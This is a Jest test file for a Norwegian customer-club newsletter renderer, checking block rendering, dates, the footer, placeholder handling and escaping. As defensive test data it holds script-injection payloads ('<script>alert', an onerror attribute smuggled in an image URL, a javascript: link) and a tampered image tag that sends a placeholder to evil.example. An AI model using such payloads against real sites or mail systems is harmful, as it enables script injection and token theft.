import type { NewsletterContent } from '../../src/newsletter/blocks.schema';
import {
  type CompiledNewsletter,
  compileNewsletter,
  fillNewsletter,
  NewsletterRenderError,
} from '../../src/newsletter/renderer';

const brand = { publicUrl: 'https://klubb.cosmenor.no', privacyContact: 'personvern@cosmenor.no' };
const unsubscribeUrl = 'https://klubb.cosmenor.no/u/eyJraWQiOiJrMSJ9.abc-DEF_123?x=1&y=2';

function buildContent(overrides: Partial<NewsletterContent> = {}): NewsletterContent {
  return {
    subject: 'Julekalender hos Sothys',
    preheader: 'Tre nyheter og et tilbud',
    blocks: [
      {
        type: 'activity',
        title: 'Hudpleiekveld i Oslo',
        body: 'Velkommen til en kveld med hudpleie.\nTa gjerne med en venn.\n\nVi byr på te.',
        startsAt: '2026-12-03T18:00:00+01:00',
        location: 'Karl Johans gate 1, Oslo',
        imageUrl: 'https://sothys.no/bilder/kveld.jpg',
        link: { url: 'https://sothys.no/kveld?by=oslo&dato=3', label: 'Meld deg på' },
      },
      {
        type: 'news',
        title: 'Ny serum',
        body: 'Lett og fuktgivende.',
        imageUrl: 'https://sothys.no/bilder/serum.jpg',
        link: { url: 'https://sothys.no/serum', label: 'Les mer' },
      },
      {
        type: 'offer',
        title: '20 % på ansiktskremer',
        body: 'Bruk koden i appen.',
        code: 'JUL20',
        validUntil: '2026-12-24',
        link: { url: 'https://sothys.no/app', label: 'Handle i appen' },
      },
    ],
    ...overrides,
  };
}

let compiled: CompiledNewsletter;

beforeAll(async () => {
  compiled = await compileNewsletter(buildContent(), brand);
});

function fill(firstName?: string | null) {
  return fillNewsletter(compiled, { firstName, unsubscribeUrl });
}

describe('compileNewsletter + fillNewsletter', () => {
  it('renders the activity block: title, Oslo time, location, image, body paragraphs and button', () => {
    const { html, text } = fill('Kari');
    expect(html).toContain('Hudpleiekveld i Oslo');
    expect(html).toContain('torsdag 3. desember kl. 18.00');
    expect(html).toContain('Karl Johans gate 1, Oslo');
    expect(html).toMatch(
      /<img[^>]+alt="Hudpleiekveld i Oslo"[^>]+src="https:\/\/sothys\.no\/bilder\/kveld\.jpg"/,
    );
    expect(html).toContain(
      '<p>Velkommen til en kveld med hudpleie.<br>Ta gjerne med en venn.</p><p>Vi byr på te.</p>',
    );
    expect(html).toMatch(
      /<a\s+href="https:\/\/sothys\.no\/kveld\?by=oslo&amp;dato=3"[^>]*>\s*Meld deg på\s*<\/a>/,
    );
    expect(text).toContain('torsdag 3. desember kl. 18.00\nKarl Johans gate 1, Oslo');
    expect(text).toContain('Velkommen til en kveld med hudpleie.\nTa gjerne med en venn.\n\nVi byr på te.');
    expect(text).toContain('Meld deg på [https://sothys.no/kveld?by=oslo&dato=3]');
  });

  it('renders the news block: title, image, body and button', () => {
    const { html, text } = fill('Kari');
    expect(html).toContain('<h2>Ny serum</h2>');
    expect(html).toMatch(/<img[^>]+alt="Ny serum"[^>]+src="https:\/\/sothys\.no\/bilder\/serum\.jpg"/);
    expect(html).toContain('<p>Lett og fuktgivende.</p>');
    expect(text).toContain('Les mer [https://sothys.no/serum]');
  });

  it('renders the offer block: title, body, the code, validity and button', () => {
    const { html, text } = fill('Kari');
    expect(html).toContain('<h2>20 % på ansiktskremer</h2>');
    expect(html).toContain('<p>Bruk koden i appen.</p>');
    expect(html).toMatch(/letter-spacing:6px[^>]*>JUL20</);
    expect(html).toContain('border:2px dashed #b08d57');
    expect(html).toContain('Gjelder til 24. desember');
    expect(text).toContain('JUL20');
    expect(text).toContain('Gjelder til 24. desember');
    expect(text).toContain('Handle i appen [https://sothys.no/app]');
  });

  it('writes the year of a date in another year than the render, and no year for this year', async () => {
    const content = buildContent({
      blocks: [
        { type: 'activity', title: 'Nyttårskveld', startsAt: '2027-01-15T18:00:00+01:00' },
        { type: 'activity', title: 'Julekveld', startsAt: '2026-12-10T18:30:00+01:00' },
        { type: 'offer', title: 'Gammelt tilbud', validUntil: '2025-12-24' },
      ],
    });
    const inDecember = await compileNewsletter(content, brand, {}, new Date('2026-12-01T12:00:00Z'));
    const { html, text } = fillNewsletter(inDecember, { unsubscribeUrl });
    for (const doc of [html, text]) {
      expect(doc).toContain('fredag 15. januar 2027 kl. 18.00');
      expect(doc).toContain('torsdag 10. desember kl. 18.30');
      expect(doc).toContain('Gjelder til 24. desember 2025');
    }
    // Rendered in January 2027, the January date is this year's and the December one last year's.
    const inJanuary = await compileNewsletter(content, brand, {}, new Date('2027-01-02T12:00:00Z'));
    expect(fillNewsletter(inJanuary, { unsubscribeUrl }).text).toContain('fredag 15. januar kl. 18.00');
    expect(fillNewsletter(inJanuary, { unsubscribeUrl }).text).toContain(
      'torsdag 10. desember 2026 kl. 18.30',
    );
  });

  it('leaves out optional parts that are missing', async () => {
    const bare = await compileNewsletter(
      buildContent({
        preheader: undefined,
        blocks: [
          { type: 'activity', title: 'Kveld', startsAt: '2026-12-03T18:00:00+01:00' },
          { type: 'offer', title: 'Tilbud' },
        ],
      }),
      brand,
    );
    const { html, text } = fillNewsletter(bare, { unsubscribeUrl });
    expect(html).not.toContain('<img');
    expect(html).not.toContain('Gjelder til');
    expect(html).not.toContain('Rabattkode');
    expect(text).toContain('torsdag 3. desember kl. 18.00');
    expect(text).toContain(`Meld deg av nyhetsbrevet [${unsubscribeUrl}]`);
  });

  it('is an HTML document in Norwegian with subject as title and the preheader as hidden preview', () => {
    const { subject, html, text } = fill('Kari');
    expect(subject).toBe('Julekalender hos Sothys');
    expect(html).toContain('<html lang="nb"');
    expect(html).toContain('<title>Julekalender hos Sothys</title>');
    expect(html).toMatch(/<div style="display:none;[^"]*"[^>]*>\s*Tre nyheter og et tilbud/);
    expect(text).not.toContain('Tre nyheter og et tilbud');
  });

  it('has a footer naming Cosmenor AS, the privacy contact and a visible unsubscribe link', () => {
    const { html, text } = fill('Kari');
    expect(html).toContain('Du får denne e-posten fordi du er medlem av Sothys Kundeklubb.');
    expect(html).toContain('Avsender: Cosmenor AS, distributør av Sothys i Norge.');
    expect(html).toContain('<a href="mailto:personvern@cosmenor.no"');
    expect(html).toContain(
      '<a href="https://klubb.cosmenor.no/u/eyJraWQiOiJrMSJ9.abc-DEF_123?x=1&amp;y=2" style="color:#1d2a44;font-weight:bold;">Meld deg av nyhetsbrevet</a>',
    );
    expect(text).toContain('Avsender: Cosmenor AS, distributør av Sothys i Norge.');
    expect(text).toContain('Spørsmål om personvern: personvern@cosmenor.no');
    expect(text).toContain(`Meld deg av nyhetsbrevet [${unsubscribeUrl}]`);
  });

  it('gives a plain-text part with every title and link but no image URLs', () => {
    const { text } = fill('Kari');
    for (const title of ['Hudpleiekveld i Oslo', 'Ny serum', '20 % på ansiktskremer'])
      expect(text).toContain(title);
    for (const url of [
      'https://sothys.no/kveld?by=oslo&dato=3',
      'https://sothys.no/serum',
      'https://sothys.no/app',
    ]) {
      expect(text).toContain(url);
    }
    expect(text).toContain(unsubscribeUrl);
    expect(text).not.toContain('.jpg');
    expect(text).not.toMatch(/[<>]|&amp;/);
  });

  it('greets by first name, escaped in HTML and raw in text', () => {
    const { html, text } = fill('<b>Kari</b>');
    expect(html).toContain('Hei &lt;b&gt;Kari&lt;/b&gt;,');
    expect(html).not.toContain('<b>Kari</b>');
    expect(text).toContain('Hei <b>Kari</b>,');
  });

  it('greets without a name when there is none', () => {
    for (const firstName of [undefined, null, '', '   ']) {
      const { html, text } = fill(firstName);
      expect(html).toMatch(/>\s*Hei,\s*</);
      expect(text).toMatch(/^Hei,$/m);
    }
  });

  it('leaves no placeholder behind and fills each recipient independently', () => {
    const kari = fill('Kari');
    const ola = fillNewsletter(compiled, {
      firstName: 'Ola',
      unsubscribeUrl: 'https://klubb.cosmenor.no/u/ola',
    });
    for (const part of [kari.html, kari.text, ola.html, ola.text]) expect(part).not.toContain('%%KK_');
    expect(ola.html).toContain('Hei Ola,');
    expect(ola.html).toContain('href="https://klubb.cosmenor.no/u/ola"');
    expect(ola.html).not.toContain('Kari');
    expect(compiled.html).toContain('%%KK_');
  });

  it('fills a compiled newsletter that was stored and loaded again', () => {
    const reloaded = JSON.parse(JSON.stringify(compiled)) as CompiledNewsletter;
    expect(fillNewsletter(reloaded, { firstName: 'Kari', unsubscribeUrl })).toEqual(fill('Kari'));
  });

  it('refuses campaign text that poses as a placeholder', async () => {
    const fake = '%%KK_0123456789abcdef01234567_UNSUB%%';
    await expect(
      compileNewsletter(buildContent({ subject: fake, blocks: [{ type: 'news', title: fake }] }), brand),
    ).rejects.toMatchObject({
      errors: [
        expect.objectContaining({ path: 'subject' }),
        expect.objectContaining({ path: 'blocks.0.title' }),
      ],
    });
  });

  it('fills only its own placeholders in a render loaded again, whatever else it contains', () => {
    const fake = `%%KK_${'0'.repeat(24)}_UNSUB%%`;
    const stored = JSON.parse(JSON.stringify(compiled)) as CompiledNewsletter;
    const tampered = {
      ...stored,
      html: stored.html.replace('</body>', `<img src="https://evil.example/?u=${fake}"></body>`),
      text: `${fake}\n${stored.text}`,
    };
    const { html, text } = fillNewsletter(tampered, { firstName: 'Kari', unsubscribeUrl });
    expect(html).toContain(`https://evil.example/?u=${fake}`);
    expect(text.startsWith(fake)).toBe(true);
    expect(() => fillNewsletter({ ...stored, nonce: 'not-a-nonce' }, { unsubscribeUrl })).toThrow(/nonce/);
  });
});

describe('escaping of everything a user writes', () => {
  const hostile = (field: string) => `<script>alert("${field}")</script> & 'x'`;
  const escaped = (field: string) =>
    `&lt;script&gt;alert(&quot;${field}&quot;)&lt;/script&gt; &amp; &#39;x&#39;`;

  let html: string;
  let text: string;

  beforeAll(async () => {
    const content = buildContent({
      subject: hostile('subject'),
      preheader: hostile('preheader'),
      blocks: [
        {
          type: 'activity',
          title: hostile('activity-title'),
          body: hostile('activity-body'),
          startsAt: '2026-12-03T18:00:00+01:00',
          location: hostile('location'),
          imageUrl: 'https://sothys.no/a.jpg?x="onerror="alert(1)',
          link: { url: 'https://sothys.no/?a=1&b="><script>', label: hostile('activity-label') },
        },
        {
          type: 'news',
          title: hostile('news-title'),
          body: hostile('news-body'),
          link: { url: 'https://sothys.no', label: hostile('news-label') },
        },
        {
          type: 'offer',
          title: hostile('offer-title'),
          body: hostile('offer-body'),
          code: `<i>"JUL&'20"</i>`,
          link: { url: 'https://sothys.no', label: hostile('offer-label') },
        },
      ],
    });
    ({ html, text } = fillNewsletter(await compileNewsletter(content, brand), { unsubscribeUrl }));
  });

  it.each([
    'subject',
    'preheader',
    'activity-title',
    'activity-body',
    'location',
    'activity-label',
    'news-title',
    'news-body',
    'news-label',
    'offer-title',
    'offer-body',
    'offer-label',
  ])('escapes %s', (field) => {
    expect(html).toContain(escaped(field));
    expect(html).not.toContain(`<script>alert("${field}")`);
  });

  it('escapes the offer code', () => {
    expect(html).toContain('&lt;i&gt;&quot;JUL&amp;&#39;20&quot;&lt;/i&gt;');
    expect(text).toContain(`<i>"JUL&'20"</i>`);
  });

  it('escapes URLs and the image alt text inside attributes', () => {
    expect(html).toContain('src="https://sothys.no/a.jpg?x=&quot;onerror=&quot;alert(1)"');
    expect(html).toContain('href="https://sothys.no/?a=1&amp;b=&quot;&gt;&lt;script&gt;"');
    expect(html).toContain(`alt="${escaped('activity-title')}"`);
    expect(html).not.toMatch(/<script|"onerror=/i);
  });

  it('does not escape twice, and the text part reads as written', () => {
    expect(html).not.toContain('&amp;lt;');
    expect(text).toContain(`<script>alert("activity-title")</script> & 'x'`);
  });
});

describe('errors', () => {
  it('refuses invalid content with the path of the field', async () => {
    const content = buildContent({
      blocks: [
        { type: 'news', title: 'OK' },
        { type: 'activity', title: 'Kveld', startsAt: '3. desember 18:00' },
        { type: 'news', title: 'Lenke', link: { url: 'javascript:alert(1)', label: 'Klikk' } },
      ],
    });
    const error = await compileNewsletter(content, brand).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(NewsletterRenderError);
    expect((error as NewsletterRenderError).errors).toEqual([
      { path: 'blocks.1.startsAt', message: expect.stringContaining('ISO 8601') },
      { path: 'blocks.2.link.url', message: 'must be an absolute https:// URL' },
    ]);
  });

  it('reports MJML validation errors with the block they come from', async () => {
    await jest.isolateModulesAsync(async () => {
      // MJML rejects only template mistakes, which escaped user text cannot make; simulate one.
      jest.doMock('mjml', () => async (source: string) => {
        const lines = source.split('\n');
        const lineOf = (needle: string) => lines.findIndex((l) => l.includes(needle)) + 1;
        throw Object.assign(new Error('ValidationError'), {
          errors: [
            { line: lineOf('<h2>Ny serum</h2>'), message: 'Attribute foo is illegal', tagName: 'mj-text' },
            { line: lineOf('<mj-title>'), message: 'Element mj-x is not allowed', tagName: 'mj-head' },
          ],
        });
      });
      const isolated = await import('../../src/newsletter/renderer');
      await expect(isolated.compileNewsletter(buildContent(), brand)).rejects.toMatchObject({
        name: 'NewsletterRenderError',
        errors: [
          { path: 'blocks.1', message: expect.stringContaining('Attribute foo is illegal') },
          { path: 'template', message: expect.stringContaining('mj-x') },
        ],
      });
    });
  });
});
